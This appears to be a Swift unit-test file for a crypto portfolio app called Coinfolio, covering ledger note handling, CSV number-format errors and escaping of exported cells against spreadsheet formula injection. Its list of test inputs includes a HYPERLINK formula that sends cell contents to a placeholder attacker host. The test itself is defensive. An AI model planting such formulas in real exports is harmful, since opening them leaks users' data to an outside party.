import Foundation
import XCTest

@testable import Coinfolio

/// Issue 31's ledger messages on both backends (the PostgreSQL pass runs every `*StoreTests`): a
/// note sent as null comes back null, and a CSV number with a comma is refused saying what the
/// comma is and what to write, with nothing imported.
final class TransactionEdgeStoreTests: XCTestCase {
    private func engine(_ database: TestDatabase) throws -> PortfolioEngine {
        try PortfolioEngine(configuration: EngineConfiguration(database: database.location, owner: database.owner))
    }

    private func notes(_ engine: PortfolioEngine) throws -> [String] {
        try engine.transactions().transactions.sorted { ($0.id ?? 0) < ($1.id ?? 0) }.map { t in
            let json = t.json
            guard let range = json.range(of: #""note":(null|"[^"]*")"#, options: .regularExpression) else { return "?" }
            return String(json[range])
        }
    }

    func testANullNoteComesBackNullAndAnEmptyOneEmpty() throws {
        let database = try TestDatabase.fresh(self)
        let first = try engine(database)
        let sent = [
            #"{"coin_id":"bitcoin","kind":"transfer_in","amount":1,"timestamp":"2024-01-01","note":null}"#,
            #"{"coin_id":"bitcoin","kind":"transfer_in","amount":1,"timestamp":"2024-01-02","note":""}"#,
            #"{"coin_id":"bitcoin","kind":"transfer_in","amount":1,"timestamp":"2024-01-03"}"#,
            #"{"coin_id":"bitcoin","kind":"transfer_in","amount":1,"timestamp":"2024-01-04","note":"cold wallet"}"#,
        ]
        let answers = try sent.map { try first.addTransaction(json: $0).json }
        XCTAssertTrue(answers[0].contains(#""note":null"#), answers[0])
        XCTAssertTrue(answers[1].contains(#""note":"""#), answers[1])
        XCTAssertTrue(answers[2].contains(#""note":null"#), answers[2])
        let expected = [#""note":null"#, #""note":"""#, #""note":null"#, #""note":"cold wallet""#]
        XCTAssertEqual(try notes(first), expected)
        first.close()
        XCTAssertEqual(try notes(try engine(database)), expected, "as saved")
    }

    func testACSVNumberWithACommaSaysWhatTheCommaIs() throws {
        let database = try TestDatabase.fresh(self)
        let engine = try engine(database)
        _ = try engine.addTransaction(json: #"{"coin_id":"bitcoin","kind":"buy","amount":1,"price":1,"timestamp":"2024-01-01"}"#)
        let header = "timestamp,portfolio,coin_id,kind,amount,price,fee,note,external_id\n"
        let cases: [(cell: String, column: String, reason: String, message: String)] = [
            (
                #""11,426.20""#, "price", "thousands_separator",
                #"line 3, column price: "11,426.20" has a thousands separator: write numbers without one (11426.20)"#
            ),
            (
                #""1,234,567""#, "price", "thousands_separator",
                #"line 3, column price: "1,234,567" has a thousands separator: write numbers without one (1234567)"#
            ),
            (#""1,5""#, "price", "decimal_comma", #"line 3, column price: "1,5" has a decimal comma: the decimal mark is a point (1.5)"#),
            (
                #""1.234,56""#, "price", "decimal_comma",
                #"line 3, column price: "1.234,56" has a decimal comma: the decimal mark is a point (1234.56)"#
            ),
            (
                #""1,234""#, "price", "ambiguous_comma",
                #"line 3, column price: "1,234" has a comma: write 1234 if it separates thousands, or 1.234 if it is a decimal comma"#
            ),
        ]
        for item in cases {
            let csv = header + "2024-02-01,main,ethereum,buy,1,2,0,,a\n2024-02-02,main,bitcoin,buy,1,\(item.cell),0,,b\n"
            var bytes = Array(csv.utf8)
            let error = assertThrows(.invalidArgument) {
                try bytes.withUnsafeMutableBytes { try engine.importCSV(UnsafeRawBufferPointer($0)) }
            }
            XCTAssertEqual(error?.message, item.message)
            XCTAssertEqual(error?.details["reason"], .string(item.reason), item.cell)
            XCTAssertEqual(error?.details["line"], .number(3), item.cell)
            XCTAssertEqual(error?.details["column"], .string(item.column), item.cell)
            XCTAssertEqual(try engine.transactions().total, 1, "nothing imported for \(item.cell)")
        }
    }
}

extension TransactionEdgeStoreTests {
    /// Text cells a spreadsheet would run as formulas, and their look-alikes.
    static let formulaTexts = [
        "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", #"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "'=x", "''@y",
        "'plain", "plain", "a=b", "",
    ]

    func testExportedCellsCannotRunAsFormulasAndImportBackExactly() throws {
        let database = try TestDatabase.fresh(self)
        let engine = try engine(database)
        try engine.createPortfolio(json: #"{"name":"=Main","vs_currency":"usd"}"#)
        for (index, text) in Self.formulaTexts.enumerated() {
            let note = try JSONSerialization.data(withJSONObject: [text], options: [.fragmentsAllowed])
            let noteJSON = String(decoding: note, as: UTF8.self).dropFirst().dropLast()
            let externalID = text.isEmpty || text.contains("\t") || text.contains("\r") ? "null" : String(noteJSON)
            _ = try engine.addTransaction(
                json:
                    #"{"portfolio":"=Main","coin_id":"bitcoin","kind":"transfer_in","amount":1,"timestamp":"2024-01-\#(String(format: "%02d", index + 1))","note":\#(noteJSON),"external_id":\#(externalID)}"#
            )
        }
        let before = try engine.transactions(TransactionQuery(portfolio: "=Main")).transactions
        let csv = String(decoding: try engine.exportCSV(portfolio: "=Main"), as: UTF8.self)
        for line in csv.split(separator: "\r\n").dropFirst() {
            for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
                let text = cell.hasPrefix("\"") ? cell.dropFirst() : cell
                XCTAssertFalse(text.first.map { "=+-@\t\r".contains($0) } ?? false, "a cell starts a formula: \(line)")
            }
        }
        XCTAssertTrue(csv.contains(",'=Main,"), csv)
        XCTAssertTrue(csv.contains(",'=1+1,'=1+1,,,,\r\n"), csv)  // SPEC §16's four columns follow, empty
        XCTAssertTrue(csv.contains(",''=x,''=x,,,,\r\n"), csv)

        let copy = try TestDatabase.fresh(self, name: "copy.sqlite")
        let other = try PortfolioEngine(configuration: EngineConfiguration(database: copy.location, owner: copy.owner))
        var bytes = Array(csv.utf8)
        let summary = try bytes.withUnsafeMutableBytes { try other.importCSV(UnsafeRawBufferPointer($0)) }
        XCTAssertEqual(summary.imported, Self.formulaTexts.count)
        let after = try other.transactions(TransactionQuery(portfolio: "=Main")).transactions
        XCTAssertEqual(after.map(\.note), before.map { $0.note?.isEmpty == true ? nil : $0.note }, "notes come back exactly")
        XCTAssertEqual(after.map(\.externalID), before.map { $0.externalID ?? "coinfolio:\($0.id ?? 0)" })
        XCTAssertEqual(after.map(\.portfolio), before.map(\.portfolio))
    }
}
